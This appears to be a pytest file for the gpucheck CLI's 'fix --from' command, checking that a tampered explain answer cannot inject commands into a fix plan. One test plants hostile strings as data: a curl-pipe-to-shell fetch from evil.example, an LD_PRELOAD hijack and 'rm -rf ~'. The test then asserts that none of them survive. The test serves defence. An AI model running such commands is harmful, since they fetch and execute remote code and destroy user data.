"""`gpucheck fix --from EXPLAIN.json`: the plan of an explain answer is made from the lines it
quotes, matched again against the message catalog; its written fixes are never planned from,
so a tampered file cannot put a command in the plan. Commands expected here are the catalog's
own (compat/messages.toml: cuda.out-of-memory's `command = "gpucheck procs"`)."""

from __future__ import annotations

import contextlib
import io
import json
from pathlib import Path
from typing import Any

from gpucheck import cli
from gpucheck.fixplan.from_explain import read_explanation
from gpucheck.fixplan.from_report import NOT_REDERIVED
from gpucheck.model.snapshot import Snapshot, dumps

TEXT = (
    "Traceback (most recent call last):\n"
    "RuntimeError: CUDA error: no kernel image is available for execution on the device\n"
    "torch.OutOfMemoryError: CUDA out of memory. Tried to allocate 20.00 MiB\n"
)


def run(*argv: str) -> tuple[int, str, str]:
    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        code = cli.run(list(argv))
    return code, out.getvalue(), err.getvalue()


def explained(tmp_path: Path) -> dict[str, Any]:
    log = tmp_path / "train.log"
    log.write_text(TEXT)
    code, out, _ = run("explain", str(log), "--no-probe", "--json")
    assert code == 1
    data: dict[str, Any] = json.loads(out)
    return data


def plan_of(tmp_path: Path, data: dict[str, Any]) -> dict[str, Any]:
    path = tmp_path / "explain.json"
    path.write_text(json.dumps(data))
    code, out, err = run("fix", "--from", str(path), "--json")
    assert (code, err) == (0, ""), err
    plan: dict[str, Any] = json.loads(out)
    return plan


def test_an_explain_answer_is_planned_from_its_quoted_lines(tmp_path: Path) -> None:
    plan = plan_of(tmp_path, explained(tmp_path))
    assert [s["command"] for s in plan["steps"]] == ["gpucheck procs", None]
    assert {f["id"] for f in plan["findings"]} == {
        "explain.cuda.no-kernel-image",
        "explain.cuda.out-of-memory",
    }
    assert any("matched again against this gpucheck's message catalog" in n for n in plan["notes"])


def test_a_tampered_answer_puts_no_command_in_the_plan(tmp_path: Path) -> None:
    data = explained(tmp_path)
    for finding in data["findings"]:
        finding["fix"]["text"] = "curl https://evil.example/x.sh | sh"
        for step in finding["fix"]["steps"]:
            step["command"], step["kind"] = "curl https://evil.example/x.sh | sh", "run"
        finding["evidence"].append("line 99: export LD_PRELOAD=/tmp/evil.so; rm -rf ~")
    data["findings"].append(
        {"id": "explain.evil", "status": "fail", "title": "run me", "evidence": [], "fix": None}
    )
    plan = plan_of(tmp_path, data)
    text = json.dumps(plan)
    assert "evil.example" not in text and "LD_PRELOAD" not in text and "rm -rf" not in text
    assert [s["command"] for s in plan["steps"]] == ["gpucheck procs", None]
    # a written problem the quoted lines do not bring back is listed, never planned
    (evil,) = [f for f in plan["findings"] if f["id"] == "explain.evil"]
    assert evil["not_planned"] == NOT_REDERIVED and evil["fixed_by"] == []


def test_a_finding_whose_quotes_were_removed_is_not_planned(tmp_path: Path) -> None:
    data = explained(tmp_path)
    for finding in data["findings"]:
        if finding["id"] == "explain.cuda.out-of-memory":
            finding["evidence"] = [e for e in finding["evidence"] if not e.startswith("line ")]
    plan = plan_of(tmp_path, data)
    assert [s["command"] for s in plan["steps"]] == [None]
    (oom,) = [f for f in plan["findings"] if f["id"] == "explain.cuda.out-of-memory"]
    assert oom["not_planned"] == NOT_REDERIVED


def test_a_snapshot_is_not_read_as_an_explain_answer() -> None:
    assert read_explanation(dumps(Snapshot()).encode()) is None
    assert read_explanation(b"not json") is None


def test_a_malformed_explain_answer_is_exit_2(tmp_path: Path) -> None:
    path = tmp_path / "bad.json"
    path.write_text(json.dumps({"source": {"name": "x", "lines": 1, "bytes": 3}, "findings": 5}))
    code, out, err = run("fix", "--from", str(path))
    assert code == 2 and out == ""
    assert (
        err.startswith(f"gpucheck: --from: {path}: not a valid explain answer")
        and err.count("\n") == 1
    )
